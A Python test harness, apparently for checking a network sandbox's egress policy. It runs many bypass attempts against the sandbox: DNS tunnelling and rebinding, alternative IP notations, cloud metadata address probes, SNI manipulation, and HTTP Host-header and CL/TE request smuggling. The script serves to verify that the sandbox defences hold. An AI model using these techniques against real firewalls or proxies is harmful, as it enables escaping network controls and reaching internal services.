"""Runs inside a sandbox whose policy allows only http(s)://example.com, ssh.test:22 and *.wild.test,
and tries to reach something else. Each attempt is a function that returns what it got through, or
None; its first line of documentation says what it is. Prints one line for each.

    attempts.py [NAME...]
"""
import errno
import os
import socket
import ssl
import struct
import subprocess
import sys
import time

RESOLVER = ("192.0.2.53", 53)
ALLOWED = "93.184.216.34"  # example.com
OTHER = "93.184.216.35"    # other.test
TIMEOUT = 20
NOTATIONS = (OTHER, str(struct.unpack(">I", socket.inet_aton(OTHER))[0]), "0x5db8d823", "0135.0270.0330.0043",
             "93.184.55331", f"[::ffff:{OTHER}]", "[2606:2800::66]")
attempts = []


def attempt(function):
    attempts.append(function)
    return function


def resolve(name="example.com"):
    return socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]


def connect(address, port, family=socket.AF_INET):
    sock = socket.socket(family, socket.SOCK_STREAM)
    sock.settimeout(TIMEOUT)
    sock.connect((address, port))
    return sock


def refused_with(code, address, port, family=socket.AF_INET):
    """None if connect() fails with this error at once."""
    try:
        connect(address, port, family)
    except OSError as error:
        return None if error.errno == code else f"error {error}"
    return "connected"


def http(raw, host="example.com", port=80):
    """Sends bytes to an allowed host; the reply, or None if it is a refusal of Holt or a reset."""
    sock = connect(resolve(host), port)
    reply = b""
    try:
        sock.sendall(raw)
        while not (b"other.test" in reply and b"200 OK" in reply):
            data = sock.recv(65536)
            if not data:
                break
            reply += data
            sock.settimeout(1)  # the host keeps the connection: no more may come
    except TimeoutError:
        pass
    except OSError:
        return None
    finally:
        sock.close()
    return None if not reply or b"Holt:" in reply else reply


def dns(name, kind=1, raw=None, tcp=False):
    wire = raw or b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 1) + wire + struct.pack(">HH", kind, 1)
    query += b"\0" + struct.pack(">HHIH", 41, 1232, 0, 0)
    if tcp:
        sock = connect(*RESOLVER)
        sock.sendall(struct.pack(">H", len(query)) + query)
        data = sock.recv(2)
        return sock.recv(struct.unpack(">H", data)[0]) if len(data) == 2 else b""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(TIMEOUT)
    sock.sendto(query, RESOLVER)
    return sock.recvfrom(4096)[0]


def code_of(reply):
    return reply[3] & 15


def answers_of(reply):
    return struct.unpack(">H", reply[6:8])[0]


def leaked(reply):
    """None for a reply without data."""
    return None if answers_of(reply) == 0 else f"answers: {reply!r}"


def hello(name, ech=False, split=None, also=None, padding=0):
    """A ClientHello; split: bytes of each record; also: the name of a second extension."""
    extensions = struct.pack(">HH", 21, padding) + bytes(padding) if padding else b""
    if name is not None:
        text = name if isinstance(name, bytes) else name.encode()
        entry = b"\0" + struct.pack(">H", len(text)) + text
        extensions += struct.pack(">HHH", 0, len(entry) + 2, len(entry)) + entry
    if also is not None:
        entry = b"\0" + struct.pack(">H", len(also)) + also.encode()
        extensions += struct.pack(">HHH", 0, len(entry) + 2, len(entry)) + entry
    if ech:
        extensions += struct.pack(">HH", 0xfe0d, 8) + b"\0" * 8
    extensions += struct.pack(">HHBH", 43, 3, 2, 0x0304)
    body = struct.pack(">H", 0x0303) + os.urandom(32) + b"\0" + struct.pack(">HH", 2, 0x1301) + b"\1\0"
    body += struct.pack(">H", len(extensions)) + extensions
    message = b"\1" + struct.pack(">I", len(body))[1:] + body
    step = split or len(message)
    return b"".join(b"\x16\3\1" + struct.pack(">H", len(message[i:i + step])) + message[i:i + step]
                    for i in range(0, len(message), step))


def tls(raw, slowly=False):
    """What an allowed host answers to a ClientHello; None: a reset."""
    sock = connect(resolve(), 443)
    try:
        for part in ([raw[i:i + 1] for i in range(len(raw))] if slowly else [raw]):
            sock.sendall(part)
        return sock.recv(4096) or None
    except OSError:
        return None
    finally:
        sock.close()


# --- names -----------------------------------------------------------------------------------------

@attempt
def denied_name():
    reply = dns("other.test")
    if code_of(reply) != 3 or b"no rule allows" not in reply:
        return f"not NXDOMAIN with a reason: {reply!r}"
    return leaked(reply)


@attempt
def tunnel_txt():
    return leaked(dns("c2VjcmV0.tunnel.test", 16))


@attempt
def tunnel_long_labels():
    return leaked(dns(".".join(["a" * 63] * 3) + ".tunnel.test"))


@attempt
def tunnel_null_type():
    return leaked(dns("x.wild.test", 10))


@attempt
def any_type():
    return leaked(dns("example.com", 255))


@attempt
def tunnel_0x20():
    return leaked(dns("sEcReT.TuNnEl.tEsT"))


@attempt
def control_bytes_in_name():
    return leaked(dns("", raw=b"\x07a\0b.\n\xffc\x04test\0"))


@attempt
def dot_in_label():
    return leaked(dns("", raw=b"\x0bexample.com\0"))


@attempt
def idn_look_alike():
    """A Cyrillic letter, as bytes and as the name that browsers make of it."""
    return (leaked(dns("", raw=b"\x08ex\xd0\xb0mple\x03com\0")) or leaked(dns("xn--exmple-4nf.com"))
            or tls(hello("xn--exmple-4nf.com")) or http(b"GET / HTTP/1.1\r\nHost: xn--exmple-4nf.com\r\n\r\n"))


@attempt
def trailing_dots():
    for name in ("other.test.", "other.test..", "example.com..", ".example.com", "example.com.other.test."):
        got = tls(hello(name)) or http(f"GET / HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
        if got:
            return f"{name}: {got!r}"
    return None


@attempt
def wildcard_edges():
    for name in ("wild.test", "awild.test", "x.wild.test.evil.test", "notexample.com", "example.com.evil.test"):
        if leaked(dns(name)):
            return name
    return None


@attempt
def dns_over_tcp():
    return leaked(dns("other.test", tcp=True))


@attempt
def https_and_svcb_hints():
    """The records have an address of other.test as a hint, which must not become reachable."""
    for kind in (64, 65):
        got = leaked(dns("example.com", kind)) or leaked(dns("x.wild.test", kind))
        if got:
            return got
    return refused_with(errno.EACCES, OTHER, 443)


@attempt
def doh():
    return (refused_with(errno.EACCES, "1.1.1.1", 443) or leaked(dns("doh.test")) or tls(hello("doh.test"))
            or http(b"POST /dns-query HTTP/1.1\r\nHost: doh.test\r\nContent-Length: 0\r\n\r\n"))


@attempt
def dot():
    """By address, and on an allowed host whose rule does not have the port."""
    got = refused_with(errno.EACCES, "1.1.1.1", 853)
    if got:
        return got
    try:
        sock = connect(resolve(), 853)
        sock.sendall(hello("example.com"))
        return sock.recv(100) or None
    except OSError:
        return None


@attempt
def other_name_server():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        sock.connect(("93.184.0.53", 53))
    except OSError as error:
        return None if error.errno == errno.EACCES else str(error)
    return "connected"


@attempt
def rebinding_private():
    """Names that a rule allows, with addresses that are not public."""
    for name in ("private", "metadata", "loop", "host", "mapped"):
        for kind in (1, 28):
            if leaked(dns(name + ".wild.test", kind)):
                return f"{name} {kind}"
    if answers_of(dns("y.wild.test")) != 1:
        return "a public address was not given out"
    if answers_of(dns("mixed.wild.test")) != 1:
        return "not just the public address was given out"
    for address in ("10.1.2.3", "169.254.169.254", "93.184.0.1"):
        got = refused_with(errno.EACCES, address, 80)
        if got:
            return f"{address}: {got}"
    return None


@attempt
def rebinding_by_a_flip():
    """The name first has a public address, with TTL 0, and then a private one."""
    replies = [dns("flip.wild.test") for _ in range(3)]
    if b"\x0a\1\2\3" in b"".join(replies[1:]) or any(answers_of(reply) for reply in replies[1:]):
        return replies
    return refused_with(errno.EACCES, "10.1.2.3", 80)


# --- addresses -------------------------------------------------------------------------------------

@attempt
def raw_address():
    return refused_with(errno.EACCES, OTHER, 80)


@attempt
def raw_address_v6():
    return refused_with(errno.EACCES, "2606:2800::66", 80, socket.AF_INET6)


@attempt
def mapped_address():
    return refused_with(errno.EACCES, "::ffff:" + OTHER, 80, socket.AF_INET6)


@attempt
def address_notations():
    number = struct.unpack(">I", socket.inet_aton(OTHER))[0]
    for text in (str(number), hex(number), "0135.0270.0330.0043", "93.184.55331"):
        try:
            info = socket.getaddrinfo(text, 80, socket.AF_INET, socket.SOCK_STREAM)
        except OSError:
            continue
        got = refused_with(errno.EACCES, info[0][4][0], 80)
        if got:
            return f"{text}: {got}"
    return None


@attempt
def metadata_service():
    return (refused_with(errno.EACCES, "169.254.169.254", 80)
            or refused_with(errno.EACCES, "fd00:ec2::254", 80, socket.AF_INET6))


@attempt
def link_local_v6():
    for address in (("fe80::1", 80, 0, 1), ("fe80::1", 80, 0, 0)):
        try:
            socket.socket(socket.AF_INET6).connect(address)
            return f"{address} connected"
        except OSError:
            pass
    return None


@attempt
def other_name_over_v6():
    address = socket.getaddrinfo("example.com", 443, socket.AF_INET6, socket.SOCK_STREAM)[0][4][0]
    for port, data in ((443, hello("other.test")), (443, hello(None)),
                       (80, b"GET / HTTP/1.0\r\nHost: other.test\r\n\r\n")):
        sock = connect(address, port, socket.AF_INET6)
        try:
            sock.sendall(data)
            got = sock.recv(100)
            if got and b"403" not in got:
                return got
        except OSError:
            pass
    return None


@attempt
def udp_v6():
    address = socket.getaddrinfo("example.com", 443, socket.AF_INET6, socket.SOCK_STREAM)[0][4][0]
    sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    sock.settimeout(TIMEOUT)
    sock.connect((address, 443))
    sock.send(b"quic")
    try:
        sock.recv(1)
    except ConnectionRefusedError:
        return None
    return "answered"


@attempt
def private_network():
    return refused_with(errno.EACCES, "10.1.2.3", 80)


@attempt
def host_address():
    return refused_with(errno.EACCES, "93.184.0.1", 8080)


@attempt
def host_loopback():
    return refused_with(errno.ECONNREFUSED, "127.0.0.1", 8080)


@attempt
def listener_address():
    try:
        sock = connect("192.0.2.53", 80)
        return sock.recv(1) or None
    except ConnectionResetError:
        return None


@attempt
def udp_to_allowed_address():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(TIMEOUT)
    sock.connect((resolve(), 443))
    sock.send(b"quic")
    try:
        sock.recv(1)
    except ConnectionRefusedError:
        return None
    return "answered"


@attempt
def raw_sockets():
    for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 0),
                                   (socket.AF_INET, socket.SOCK_DGRAM, 1)):
        try:
            socket.socket(family, kind, protocol)
            return f"{family} {kind}"
        except OSError:
            pass
    return None


@attempt
def multicast_and_broadcast():
    for family, address in ((socket.AF_INET, ("224.0.0.251", 5353)), (socket.AF_INET, ("255.255.255.255", 67)),
                            (socket.AF_INET6, ("ff02::fb", 5353, 0, 1))):
        sock = socket.socket(family, socket.SOCK_DGRAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        try:
            sock.sendto(b"x", address)
            return f"sent to {address}"
        except OSError:
            pass
    return None


@attempt
def multipath_tcp():
    """The same routes and the same listener are for subflows."""
    try:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    except OSError:
        return None
    try:
        sock.connect((OTHER, 80))
        return "connected"
    except OSError as error:
        if error.errno != errno.EACCES:
            return str(error)
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    sock.settimeout(TIMEOUT)
    sock.connect((resolve(), 443))
    try:
        sock.sendall(hello("other.test"))
        return sock.recv(100) or None
    except OSError:
        return None


@attempt
def fast_open():
    """Data in the first packet."""
    sock = socket.socket()
    try:
        sock.sendto(b"GET / HTTP/1.0\r\nHost: other.test\r\n\r\n", socket.MSG_FASTOPEN, (resolve(), 80))
        sock.settimeout(TIMEOUT)
        got = sock.recv(100)
        return None if b"403" in got else got
    except OSError:
        return None


@attempt
def other_families():
    """Ways to the host or the network that have no routes."""
    for family, kind, protocol in ((40, socket.SOCK_STREAM, 0), (socket.AF_INET, socket.SOCK_STREAM, 132),
                                   (socket.AF_INET, 6, 33), (21, socket.SOCK_SEQPACKET, 0), (30, socket.SOCK_SEQPACKET, 0),
                                   (44, socket.SOCK_RAW, 0), (31, socket.SOCK_SEQPACKET, 0), (29, socket.SOCK_RAW, 1)):
        try:
            sock = socket.socket(family, kind, protocol)
        except OSError:
            continue
        try:
            sock.connect((2, 1024) if family == 40 else (OTHER, 80))
        except (OSError, TypeError) as error:
            if family != 40 and getattr(error, "errno", None) == errno.EACCES:
                continue
        return f"a socket of family {family}, protocol {protocol}"
    return None


@attempt
def routes_from_inside():
    result = subprocess.run(["ip", "route", "add", "local", OTHER, "dev", "lo"], capture_output=True)
    return "route added" if result.returncode == 0 else refused_with(errno.EACCES, OTHER, 80)


@attempt
def port_that_no_rule_has():
    try:
        sock = connect(resolve(), 8080)
        sock.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return sock.recv(100) or None
    except OSError:
        return None


# --- TLS -------------------------------------------------------------------------------------------

@attempt
def sni_other():
    return tls(hello("other.test"))


@attempt
def sni_shared_address():
    return tls(hello("shared.test"))


@attempt
def sni_missing():
    return tls(hello(None))


@attempt
def sni_encrypted():
    return tls(hello("example.com", ech=True))


@attempt
def sni_split_over_records():
    return tls(hello("other.test", split=7))


@attempt
def sni_slowly():
    return tls(hello("other.test"), slowly=True)


@attempt
def sni_with_nul():
    return tls(hello(b"example.com\0.other.test"))


@attempt
def sni_twice():
    """A server may read either of two names."""
    for names in (("example.com", "other.test"), ("other.test", "example.com")):
        got = tls(hello(names[0], also=names[1]))
        if got and got[0] != 0x15:  # an alert of the allowed host
            return got
    return None


@attempt
def sni_behind_a_long_extension():
    """As large as a ClientHello can be, in records of their longest size."""
    return tls(hello("other.test", padding=40000, split=16384))


@attempt
def sni_is_an_address():
    for name in NOTATIONS:
        got = tls(hello(name))
        if got:
            return f"{name}: {got!r}"
    return None


@attempt
def sni_upper_case_and_dot():
    return tls(hello("OTHER.TEST."))


@attempt
def silence_then_other_name():
    """On a port of the web, silence must not make the bytes unseen."""
    sock = connect(resolve(), 443)
    time.sleep(0.6)
    try:
        sock.sendall(hello("other.test"))
        return sock.recv(100) or None
    except OSError:
        return None


@attempt
def server_first_then_other_name():
    """On a port where the server speaks first, the client's first bytes are looked at."""
    sock = connect(resolve("ssh.test"), 22)
    if not sock.recv(100).startswith(b"SSH-"):
        return "no banner"
    try:
        sock.sendall(hello("other.test"))
        return sock.recv(100) or None
    except OSError:
        return None


# --- HTTP ------------------------------------------------------------------------------------------

@attempt
def host_other():
    return http(b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")


@attempt
def host_is_an_address():
    for name in NOTATIONS:
        got = http(f"GET / HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
        if got:
            return f"{name}: {got!r}"
    return None


@attempt
def host_with_control_bytes():
    for name in (b"example.com\0.other.test", b"example.com\t.other.test", b"other.test\x0bexample.com", b"example.com\x7f",
                 b"example.com\r.other.test", b"\xc3\xa9xample.com", b"example.com@other.test", b"other.test#example.com",
                 b"example.com:80:80", b"other.test,example.com", b"example.com/other.test"):
        got = http(b"GET / HTTP/1.1\r\nHost: " + name + b"\r\n\r\n")
        if got:
            return f"{name!r}: {got!r}"
    return None


@attempt
def host_missing():
    return http(b"GET / HTTP/1.0\r\n\r\n")


@attempt
def host_twice():
    return http(b"GET / HTTP/1.1\r\nHost: example.com\r\nHost: other.test\r\n\r\n")


@attempt
def host_folded():
    return http(b"GET / HTTP/1.1\r\nHost: example.com\r\n other.test\r\n\r\n")


@attempt
def host_bare_lf():
    return http(b"GET / HTTP/1.1\nHost: other.test\n\n")


@attempt
def leading_crlf():
    return http(b"\r\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n")


def passes_other(raw):
    """The reply, if a request for other.test was answered in it."""
    reply = http(raw)
    return reply if reply and b"other.test" in reply else None


@attempt
def pipelined_second_host():
    return passes_other(b"GET / HTTP/1.1\r\nHost: example.com\r\n\r\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n")


@attempt
def second_host_behind_a_body():
    return passes_other(b"POST / HTTP/1.1\r\nHost: example.com\r\nContent-Length: 3\r\n\r\nabc"
                        b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")


@attempt
def smuggled_by_two_lengths():
    return passes_other(b"POST / HTTP/1.1\r\nHost: example.com\r\nContent-Length: 50\r\n"
                        b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n")


@attempt
def connect_method():
    for line in (b"CONNECT other.test:443", b"CONNECT example.com:443", b"CONNECT example.com:80", b"connect other.test:443",
                 b"CONNECT http://example.com/", b"CONNECT /", b"CONNECT *", b"CONNECT\tother.test:443"):
        got = http(line + b" HTTP/1.1\r\nHost: example.com\r\n\r\n")
        if got and (b"200 OK" in got):
            return f"{line!r}: {got!r}"
    return None


@attempt
def absolute_form():
    for target in (b"http://other.test/", b"HTTP://other.test/", b"https://other.test/", b"http://example.com@other.test/",
                   b"http://other.test:80/", b"//other.test/", b"other.test/"):
        got = http(b"GET " + target + b" HTTP/1.1\r\nHost: example.com\r\n\r\n")
        if got and b"other.test" in got:
            return f"{target!r}: {got!r}"
    return None


@attempt
def upgrade_then_other_host():
    return passes_other(b"GET / HTTP/1.1\r\nHost: example.com\r\n\r\n"
                        b"GET / HTTP/1.1\r\nHost: example.com\r\nUpgrade: websocket\r\n\r\n"
                        b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")


@attempt
def upgrade_to_h2c():
    return passes_other(b"GET / HTTP/1.1\r\nHost: example.com\r\nUpgrade: h2c\r\n\r\n"
                        b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")


@attempt
def upgrade_with_a_body():
    return http(b"POST / HTTP/1.1\r\nHost: example.com\r\nUpgrade: websocket\r\nContent-Length: 3\r\n\r\nabc")


@attempt
def redirect():
    reply = http(b"GET /redirect HTTP/1.0\r\nHost: example.com\r\n\r\n")
    if not reply or b"Location: http://other.test/" not in reply:
        return f"no redirect: {reply!r}"
    return leaked(dns("other.test"))


def main():
    wanted = sys.argv[1:]
    for function in attempts:
        if wanted and function.__name__ not in wanted:
            continue
        try:
            got = function()
        except Exception as error:  # an attempt that breaks proves nothing
            got = f"exception {type(error).__name__}: {error}"
        print(f"{'through' if got else 'refused'} {function.__name__} {got or ''}", flush=True)


if __name__ == "__main__":
    main()
